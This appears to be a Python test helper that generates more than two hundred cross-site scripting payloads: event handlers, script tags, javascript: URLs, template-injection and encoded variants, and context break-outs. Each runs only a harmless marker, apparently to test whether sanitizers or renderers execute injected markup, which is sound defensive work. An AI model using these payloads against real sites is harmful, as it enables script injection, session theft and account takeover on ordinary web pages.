"""More than two hundred texts that would be a script if any page took them for markup."""

TAG = "window.__fired=1"
_HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onpointerover",
    "onbegin",
)
_ELEMENTS = (
    "<img src=x {h}={t}>", "<svg {h}={t}>", "<body {h}={t}>", "<details open {h}={t}>", "<video src=x {h}={t}>",
    "<input autofocus {h}={t}>", "<iframe {h}={t}>", "<svg><animate {h}={t} attributeName=x dur=1s>",
    "<math {h}={t}>", "<marquee {h}={t}>", "<object data=x {h}={t}>", "<audio src=x {h}={t}>",
    "<select autofocus {h}={t}>", "<style {h}={t}>", "<video><source {h}={t}>", "<a {h}={t} tabindex=0>x",
)  # fmt: skip
_SCRIPTS = (
    "<script>{t}</script>", "<ScRiPt>{t}</sCrIpT>", "<script/x>{t}</script>", "<script>{t}//", "<svg><script>{t}</script>",
    "<script src=data:,{t}></script>", "<script type=module>{t}</script>", "<<script>{t}</script>", "<noscript><p title='</noscript><img src=x onerror={t}>'>",
    "<iframe srcdoc='<script>parent.{t}</script>'>", "<iframe src='javascript:parent.{t}'>", "<a href='javascript:{t}'>x</a>",
    "<form action='javascript:{t}'><button>x", "<object data='javascript:{t}'>", "<embed src='javascript:{t}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{t}'>", "<base href='javascript:{t}//'>", "<link rel=import href='data:,{t}'>",
    "<math><a xlink:href='javascript:{t}'>x", "<svg><a xlink:href='javascript:{t}'><text>x", "<svg><use href='data:image/svg+xml,{t}'>",
    "<template><script>{t}</script></template>", "<isindex action='javascript:{t}'>", "<xmp><img src=x onerror={t}></xmp>",
    "{{{{constructor.constructor('{t}')()}}}}", "${{{t}}}", "{{{{{t}}}}}", "{{% raw %}}{t}", "<%={t}%>", "#{{{t}}}",
    "[x](javascript:{t})", "![x](x){{onerror={t}}}", "```html\n<script>{t}</script>\n```", "$$\\href{{javascript:{t}}}{{x}}$$",
    "javascript:{t}", "data:text/html,<script>{t}</script>", "vbscript:{t}", "jav&#x09;ascript:{t}",
    "&lt;script&gt;{t}&lt;/script&gt;", "\\u003cscript\\u003e{t}\\u003c/script\\u003e", "%3Cscript%3E{t}%3C/script%3E", "＜script＞{t}＜/script＞",
)  # fmt: skip
_BREAKS = (
    '"><',
    "'><",
    "</textarea><",
    "</title><",
    "</script><",
    "--><",
    "]]><",
    "</style><",
    '"/><',
    "`><",
    "</option></select><",
)
_SHORTEST = ("<img src=x onerror={t}>", "<svg onload={t}>", "<script>{t}</script>")


def payloads(n: int | None = None) -> list[str]:
    """The texts, the shortest kinds first; each sets `TAG` if it fires."""
    elements = [text.format(h=handler, t=TAG) for handler in _HANDLERS for text in _ELEMENTS]
    scripts = [text.format(t=TAG) for text in _SCRIPTS]
    broken = [lead[:-1] + text.format(t=TAG) for lead in _BREAKS for text in _SHORTEST]
    attributes = [f'" {handler}={TAG} x="' for handler in _HANDLERS] + [
        f"' {handler}={TAG} x='" for handler in _HANDLERS
    ]
    found = list(
        dict.fromkeys(
            [*(text.format(t=TAG) for text in _SHORTEST), *scripts, *attributes, *broken, *elements]
        )
    )
    return found[:n]
